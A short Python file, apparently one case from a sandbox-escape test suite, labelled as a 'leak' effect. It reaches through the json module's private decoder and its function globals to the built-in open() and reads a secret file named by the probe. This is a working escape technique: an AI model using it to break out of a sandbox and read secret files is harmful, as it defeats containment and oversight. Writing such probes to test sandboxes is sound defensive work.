# effect: leak
# note: a private name of an allowed module
import json


def attempt(probe):
    scanner = json._default_decoder.scan_once
    inside = json._default_decoder.decode.__func__.__globals__
    return scanner and inside["__builtins__"]["open"](probe["secret_file"]).read()
